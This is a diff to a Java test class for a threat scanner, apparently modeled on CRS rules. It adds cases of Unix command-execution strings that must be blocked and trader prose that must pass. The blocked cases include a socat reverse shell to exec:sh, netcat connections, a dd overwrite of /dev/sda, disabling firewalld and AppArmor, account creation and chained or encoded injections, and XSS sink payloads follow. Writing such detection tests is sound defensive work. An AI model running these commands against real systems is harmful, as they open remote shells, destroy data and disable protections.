@@ -582,6 +582,58 @@ class ThreatScannerTest {
       delimiter = '|',
       quoteCharacter = '~',
       value = {
+        "a wrapper with an option of its own   | sudo -l",
+        "a wrapper's option, then a program    | sudo -u root id",
+        "a program given a top directory       | ls /etc",
+        "a word-program on the root and options| find / -perm -4000",
+        "a word-program with options alone     | ps -ef",
+        "a signal and a process id             | kill -9 1",
+        "an option and an address              | ping -c 1 127.0.0.1",
+        "devices mounted                       | mount /dev/sda1 /mnt",
+        "a peer address and a port             | nc 10.0.0.1 4444",
+        "a user at an address                  | ssh root@10.0.0.1",
+        "socat addresses                       | socat tcp:10.0.0.1:80 exec:sh",
+        "a BusyBox applet                      | busybox nc 10.0.0.1 80",
+        "operands given device paths           | dd if=/dev/zero of=/dev/sda",
+        "an administration tool, plain words   | systemctl stop firewalld",
+        "an account made                       | useradd eve",
+        "an AppArmor profile switched off      | aa-disable php-fpm",
+        "a program and an address, chained     | x; ping 10.0.0.1",
+        "a word-program and an address, encoded| ping%2010.0.0.1"
+      })
+  @DisplayName("command lines CRS reads as direct Unix command execution are blocked")
+  void directCommandClasses(String what, String value) {
+    assertThat(scanner.scan(value).blocked()).as(what).isTrue();
+  }
+
+  @ParameterizedTest(name = "{0}")
+  @CsvSource(
+      delimiter = '|',
+      quoteCharacter = '~',
+      value = {
+        "long/short ratio                 | ls ratio up today",
+        "a wrapper in a joke              | sudo make me a sandwich",
+        "a word-program, then a sentence  | top -5 pairs by volume",
+        "an option-like word, then words  | date -u please",
+        "an address in a sentence         | ping 10.0.0.1 is slow from the office",
+        "a host named after a separator   | Primary; host 10.0.0.1 down",
+        "an e-mail after a separator      | email ops; cc risk@example.com",
+        "an administration tool named     | useradd is the tool ops uses",
+        "a cron table in a sentence       | crontab runs at midnight",
+        "a unit restarted, in prose       | systemctl restart fixed it",
+        "a tool called a hammer           | killall is a big hammer",
+        "an address with a port in prose  | the server at 192.168.1.10:8080 is up"
+      })
+  @DisplayName("trader prose near the direct-command classes passes")
+  void directCommandClassesProse(String what, String value) {
+    assertThat(scanner.scan(value).threat()).as(what).isFalse();
+  }
+
+  @ParameterizedTest(name = "{0}")
+  @CsvSource(
+      delimiter = '|',
+      quoteCharacter = '~',
+      value = {
         "a handler set to a sink           | window.onerror=confirm;throw 2",
         "a sink as the coercion hook       | toString=prompt;self+''",
         "a sink stored and then called     | f=confirm;f(2)",
